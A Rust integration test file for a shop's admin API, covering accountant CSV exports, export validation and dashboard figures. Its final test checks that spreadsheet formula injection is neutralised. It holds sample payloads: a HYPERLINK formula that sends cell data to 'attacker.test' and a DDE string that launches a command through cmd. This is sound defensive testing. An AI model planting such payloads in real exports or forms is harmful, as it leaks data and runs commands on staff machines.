//! CSV exports as the accountant reads them: every bill of a range with its totals and tax
//! breakdown, lines, payments, customers and products, in English or French spreadsheet
//! formats; bad ranges and formats refused at their field.

use enrolshop_tests::{ADMIN_TOKEN, Stack};
use rust_decimal::Decimal;
use std::collections::HashMap;

/// The export's rows as header → cell maps, read with `delimiter`.
async fn export(stack: &Stack, path: &str, delimiter: u8) -> Vec<HashMap<String, String>> {
    let response = stack
        .http
        .get(stack.url(path))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "{path}");
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"demo-"),
        "{headers:?}"
    );
    let body = response.bytes().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(&body[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(String::from))
                .collect()
        })
        .collect()
}

fn amount(text: &str) -> Decimal {
    text.replace(',', ".").parse().unwrap()
}

#[tokio::test]
async fn exports_hold_every_bill_with_totals_equal_to_the_bills() {
    let stack = Stack::start_embedded().await;
    let (first, _) = stack
        .place_and_pay(&stack.ready_cart("EXCEL-ESS", 3).await)
        .await;
    let (second, _) = stack
        .place_and_pay(&stack.ready_cart("GUIDE-BOOK", 1).await)
        .await;
    let pending = stack
        .order(&stack.ready_cart("EXCEL-ESS", 1).await, "transfer")
        .await;
    assert_eq!(pending.status, 201, "{}", pending.body);
    stack.produce_all().await;

    let bills = export(&stack, "/admin/shops/demo/exports/bills.csv", b',').await;
    assert_eq!(bills.len(), 3, "every bill, oldest first");
    assert_eq!(bills[0]["bill"], first);
    assert_eq!(bills[1]["bill"], second);
    let listed = stack
        .with_token(
            reqwest::Method::GET,
            "/admin/shops/demo/bills",
            ADMIN_TOKEN,
            None,
        )
        .await;
    let expected: Decimal = listed.body["bills"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| amount(b["total"].as_str().unwrap()))
        .sum();
    let exported: Decimal = bills.iter().map(|b| amount(&b["total_incl_tax"])).sum();
    assert_eq!(exported, expected, "the export's totals are the bills'");
    for b in &bills {
        let taxes: Decimal = ["standard", "reduced"]
            .iter()
            .filter(|c| !b[&format!("tax_{c}_amount")].is_empty())
            .map(|c| amount(&b[&format!("tax_{c}_base")]) + amount(&b[&format!("tax_{c}_amount")]))
            .sum();
        assert_eq!(
            taxes,
            amount(&b["total_incl_tax"]),
            "each rate's base and tax add up: {b:?}"
        );
    }
    assert_eq!(bills[1]["tax_reduced_rate"], "5.5");
    assert!(
        !bills[0]["invoice_number"].is_empty(),
        "a paid bill has its invoice number"
    );

    // French spreadsheets: semicolons and decimal commas.
    let fr = export(
        &stack,
        "/admin/shops/demo/exports/bills.csv?separator=semicolon&decimal=comma",
        b';',
    )
    .await;
    assert_eq!(fr.len(), 3);
    assert!(fr[0]["total_incl_tax"].contains(','), "{:?}", fr[0]);

    let lines = export(&stack, "/admin/shops/demo/exports/lines.csv", b',').await;
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0]["quantity"], "3");
    let payments = export(&stack, "/admin/shops/demo/exports/payments.csv", b',').await;
    assert_eq!(payments.len(), 2, "the two paid bills");
    assert_eq!(payments[0]["bill"], first);
    let customers = export(&stack, "/admin/shops/demo/exports/customers.csv", b',').await;
    assert_eq!(customers.len(), 1, "one buyer, three bills");
    assert_eq!(customers[0]["bills"], "3");
    let products = export(&stack, "/admin/shops/demo/exports/products.csv", b',').await;
    assert!(
        products
            .iter()
            .any(|p| p["bill"] == first && p["item_name"].starts_with("Excel essentials")),
        "{products:?}"
    );

    // A range with nothing in it holds the header only.
    let tomorrow = (chrono::Utc::now() + chrono::Duration::days(1)).format("%Y-%m-%d");
    let none = export(
        &stack,
        &format!("/admin/shops/demo/exports/bills.csv?from={tomorrow}"),
        b',',
    )
    .await;
    assert!(none.is_empty());
    let today = chrono::Utc::now().format("%Y-%m-%d");
    let all = export(
        &stack,
        &format!("/admin/shops/demo/exports/lines.csv?from={today}&to={today}"),
        b',',
    )
    .await;
    assert_eq!(all.len(), 3);
}

#[tokio::test]
async fn bad_export_requests_are_refused_at_their_field() {
    let stack = Stack::start_embedded().await;
    let get = |path: &'static str| stack.with_token(reqwest::Method::GET, path, ADMIN_TOKEN, None);
    let cases = [
        (
            "/admin/shops/demo/exports/bills.csv?from=2026-13-01",
            "from",
        ),
        (
            "/admin/shops/demo/exports/bills.csv?from=2026-12-02&to=2026-12-01",
            "to",
        ),
        (
            "/admin/shops/demo/exports/bills.csv?separator=tab",
            "separator",
        ),
        (
            "/admin/shops/demo/exports/bills.csv?decimal=comma",
            "decimal",
        ),
    ];
    for (path, field) in cases {
        assert_eq!(
            get(path).await.assert_problem(422, "validation_failed"),
            [field],
            "{path}"
        );
    }
    get("/admin/shops/demo/exports/invoices.csv")
        .await
        .assert_problem(404, "not_found");
    get("/admin/shops/demo/exports/bills.csv?limit=5")
        .await
        .assert_problem(400, "malformed_request");
}

/// The dashboard's figures follow the bills and cost four requests however many bills there
/// are: the counters (written in each bill's own transaction: the real bills' and the test
/// bills', read at once), the shop, and the items sold to name them (one batch read; none
/// before anything sold).
#[tokio::test]
async fn the_dashboard_figures_follow_the_bills_in_four_requests() {
    let stack = Stack::start().await;
    let stats = || {
        stack.with_token(
            reqwest::Method::GET,
            "/admin/shops/demo/stats",
            ADMIN_TOKEN,
            None,
        )
    };
    stack.requests.reset();
    let empty = stats().await;
    assert_eq!(empty.status, 200, "{}", empty.body);
    assert_eq!(
        stack.requests.operations().len(),
        3,
        "{:?}",
        stack.requests.operations()
    );
    assert_eq!(empty.body["days"], serde_json::json!([]));

    let (excel, _) = stack
        .place_and_pay(&stack.ready_cart("EXCEL-ESS", 3).await)
        .await;
    let (guide, _) = stack
        .place_and_pay(&stack.ready_cart("GUIDE-BOOK", 1).await)
        .await;
    // An item sold by direct link only (not in the public catalogue), with its password.
    let partner = stack.new_cart().await;
    let line = serde_json::json!({"quantity": 1, "password": "partner-2026"});
    let added = stack
        .put(&format!("/carts/{partner}/lines/PARTNER-EXCEL"), line)
        .await;
    assert_eq!(added.status, 200, "{}", added.body);
    stack
        .put(
            &format!("/carts/{partner}/customer"),
            enrolshop_tests::customer(),
        )
        .await;
    stack.place_and_pay(&partner).await;
    let pending = stack
        .order(&stack.ready_cart("EXCEL-ESS", 1).await, "transfer")
        .await;
    stack.produce_all().await;
    stack.requests.reset();
    let figures = stats().await.body;
    assert_eq!(
        stack.requests.operations().len(),
        4,
        "{:?}",
        stack.requests.operations()
    );
    assert_eq!(figures["counts"]["COMPLETE"], 3, "{figures}");
    assert_eq!(figures["counts"]["PENDING"], 1);
    assert_eq!(
        figures["counts"]["PAID"], 0,
        "bills that moved on are not counted where they were"
    );
    let today = chrono::Utc::now().format("%Y-%m-%d").to_string();
    assert_eq!(
        figures["days"],
        serde_json::json!([{"day": today, "revenue_excl_tax": "444.90", "orders": 3,
                            "refunded_excl_tax": "0.00"}])
    );
    assert_eq!(figures["methods"]["test"], 3);
    assert_eq!(
        figures["items"][0],
        serde_json::json!({"code": "EXCEL-ESS", "quantity": 3, "names": {
            "en": "Excel essentials (e-learning, 12 months)",
            "fr": "Excel, les essentiels (formation en ligne, 12 mois)"}})
    );
    let partner = figures["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["code"] == "PARTNER-EXCEL")
        .expect("the partners' item sold");
    assert!(
        partner["names"]["fr"]
            .as_str()
            .is_some_and(|n| !n.is_empty()),
        "named, though not in the public catalogue: {partner}"
    );

    let bill = pending.body["bill_id"].as_str().unwrap();
    let cancel = serde_json::json!({"to": "CANCELLED", "note": "changed their mind"});
    stack
        .with_token(
            reqwest::Method::POST,
            &format!("/admin/bills/{bill}/transitions"),
            ADMIN_TOKEN,
            Some(cancel),
        )
        .await;
    let after = stats().await.body;
    assert_eq!(after["counts"]["PENDING"], 0);
    assert_eq!(after["counts"]["CANCELLED"], 1);
    assert_eq!(
        after["days"][0]["refunded_excl_tax"], "0.00",
        "never paid: nothing given back"
    );

    // Money given back on paid bills counts on its day, excl. tax: part of the Excel order
    // (120.00 incl. 20 % tax), all of the guide (26.27 incl. 5.5 %).
    let admin = async |path: String, body: serde_json::Value| {
        stack
            .with_token(reqwest::Method::POST, &path, ADMIN_TOKEN, Some(body))
            .await
    };
    let part = serde_json::json!({"amount": "120.00", "note": "one seat less"});
    let refunded = admin(format!("/admin/bills/{excel}/refunds"), part).await;
    assert_eq!(refunded.status, 200, "{}", refunded.body);
    for to in ["PAYBACK", "REFUNDED"] {
        let note = serde_json::json!({"to": to, "note": "withdrew"});
        admin(format!("/admin/bills/{guide}/transitions"), note).await;
    }
    let after = stats().await.body;
    assert_eq!(after["days"][0]["refunded_excl_tax"], "124.90", "{after}");
    assert_eq!(
        after["days"][0]["revenue_excl_tax"], "444.90",
        "sales stand as sold"
    );
    let old = stack
        .with_token(
            reqwest::Method::GET,
            "/admin/shops/demo/stats?from=2020-01-01&to=2020-01-31",
            ADMIN_TOKEN,
            None,
        )
        .await;
    assert_eq!(
        old.body["days"],
        serde_json::json!([]),
        "days outside the range are left out"
    );
    stack
        .with_token(
            reqwest::Method::GET,
            "/admin/shops/demo/stats?from=2026-12-02&to=2026-12-01",
            ADMIN_TOKEN,
            None,
        )
        .await
        .assert_problem(422, "validation_failed");
}

/// The orders a shop's staff placed in test mode while setting it up are not its sales once it
/// is live: the dashboard of a live shop counts its real bills only (and in test mode, its
/// test bills).
#[tokio::test]
async fn a_live_shops_figures_leave_out_its_test_orders() {
    let stack = Stack::start_embedded().await;
    let stats = async || {
        stack
            .with_token(
                reqwest::Method::GET,
                "/admin/shops/demo/stats",
                ADMIN_TOKEN,
                None,
            )
            .await
            .body
    };
    stack
        .place_and_pay(&stack.ready_cart("EXCEL-ESS", 3).await)
        .await;
    let testing = stats().await;
    assert_eq!(testing["days"][0]["orders"], 1, "{testing}");
    assert_eq!(testing["counts"]["PAID"], 1);

    let mut shop = stack
        .with_token(reqwest::Method::GET, "/admin/shops/demo", ADMIN_TOKEN, None)
        .await
        .body;
    shop["test_mode"] = false.into();
    let methods = shop["payment_methods"].as_array_mut().unwrap();
    methods.retain(|m| m != "test");
    if shop["default_payment_method"] == "test" {
        shop["default_payment_method"] = "transfer".into();
    }
    let live = stack
        .with_token(
            reqwest::Method::PUT,
            "/admin/shops/demo",
            ADMIN_TOKEN,
            Some(shop),
        )
        .await;
    assert_eq!(live.status, 200, "{}", live.body);
    let fresh = stats().await;
    assert_eq!(fresh["days"], serde_json::json!([]), "{fresh}");
    assert_eq!(fresh["counts"]["PAID"], 0);
    assert_eq!(fresh["items"], serde_json::json!([]));

    let placed = stack
        .order(&stack.ready_cart("GUIDE-BOOK", 1).await, "transfer")
        .await;
    let bill = placed.body["bill_id"].as_str().unwrap();
    // A real order is not paid by a test payment, even recorded by staff.
    let by_test = stack
        .with_token(
            reqwest::Method::POST,
            &format!("/admin/bills/{bill}/payments"),
            ADMIN_TOKEN,
            Some(serde_json::json!({"amount": "26.27", "method": "test"})),
        )
        .await;
    by_test.assert_problem(422, "validation_failed");
    assert_eq!(by_test.field_codes(), [("method", "method_unavailable")]);
    let paid = stack
        .with_token(
            reqwest::Method::POST,
            &format!("/admin/bills/{bill}/payments"),
            ADMIN_TOKEN,
            Some(serde_json::json!({"amount": "26.27", "method": "transfer"})),
        )
        .await;
    assert_eq!(paid.body["status"], "PAID", "{}", paid.body);
    let sold = stats().await;
    assert_eq!(sold["days"][0]["orders"], 1, "the live order only: {sold}");
    assert_eq!(sold["days"][0]["revenue_excl_tax"], "24.90");
    assert_eq!(sold["items"][0]["code"], "GUIDE-BOOK");
    assert_eq!(sold["items"].as_array().unwrap().len(), 1);
}

/// A buyer's words that a spreadsheet would run as a formula reach the accountant's export as
/// text: the staff who open it run nothing a buyer typed.
#[tokio::test]
async fn a_buyers_formula_is_exported_as_text() {
    let stack = Stack::start_embedded().await;
    let link = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Open\")";
    let mut buyer = enrolshop_tests::customer();
    buyer["customer"]["firstname"] = link.into();
    buyer["customer"]["organisation"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    buyer["customer"]["city"] = "+Paris".into();
    let cart = stack.ready_cart_as("EXCEL-ESS", 1, buyer).await;
    stack.place_and_pay(&cart).await;

    for (path, delimiter) in [
        ("/admin/shops/demo/exports/bills.csv", b','),
        (
            "/admin/shops/demo/exports/bills.csv?separator=semicolon&decimal=comma",
            b';',
        ),
    ] {
        let bills = export(&stack, path, delimiter).await;
        assert_eq!(bills[0]["customer"], format!("'{link} Lovelace"), "{path}");
        assert_eq!(bills[0]["organisation"], "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert!(
            !bills[0]["total_incl_tax"].starts_with('\''),
            "amounts stay numbers"
        );
    }
    let customers = export(&stack, "/admin/shops/demo/exports/customers.csv", b',').await;
    assert_eq!(customers[0]["firstname"], format!("'{link}"));
    assert_eq!(customers[0]["city"], "'+Paris");
    let payments = export(&stack, "/admin/shops/demo/exports/payments.csv", b',').await;
    assert!(
        payments[0]["customer"].starts_with("'="),
        "{:?}",
        payments[0]
    );
}
